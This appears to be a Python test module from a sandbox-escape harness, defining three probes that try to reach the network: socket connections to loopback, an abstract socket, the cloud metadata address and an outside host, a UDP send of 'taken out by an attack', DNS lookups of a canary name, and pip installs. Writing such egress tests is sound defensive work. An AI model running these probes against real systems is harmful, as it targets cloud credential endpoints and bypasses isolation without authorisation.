"""Attacks 29 to 31: to reach out."""

from __future__ import annotations

from trials.attacks.base import Attack, hostile

SOCKETS = """
import socket
def attempt(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(1); s.connect(address); print("REACHED", address, s.recv(100))
    except OSError as e: print(type(e).__name__)
attempt(socket.AF_INET, ("127.0.0.1", PORT)); attempt(socket.AF_INET6, ("::1", PORT))
attempt(socket.AF_UNIX, "\\0" + SOCKET)
attempt(socket.AF_INET, ("169.254.169.254", 80)); attempt(socket.AF_INET, ("192.0.2.1", 80))
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"taken out by an attack", ("127.0.0.1", PORT))
except OSError as e: print(type(e).__name__)
"""
DNS = """
import socket
for name in ("example.com", "canary.attack.example"):
    try: print("REACHED", socket.getaddrinfo(name, 80))
    except OSError as e: print(type(e).__name__)
"""
PIP = """
import subprocess, sys
get_ipython().system("pip install ps8-no-such-package")
done = subprocess.run([sys.executable, "-m", "pip", "install", "--retries", "0", "--timeout", "1", "--no-input", "wheel==0.38.0",
                       "--target", "/tmp/x"], capture_output=True, text=True)
print("REACHED" if done.returncode == 0 else "nothing installed")
"""

ATTACKS = [
    Attack(
        "sockets", 29, "connects to loopback, an abstract socket, the metadata address and outside", hostile(before=SOCKETS)
    ),
    Attack("dns", 30, "asks for names, which tells a server what was asked", hostile(before=DNS)),
    Attack("pip", 31, "installs a package", hostile(before=PIP)),
]
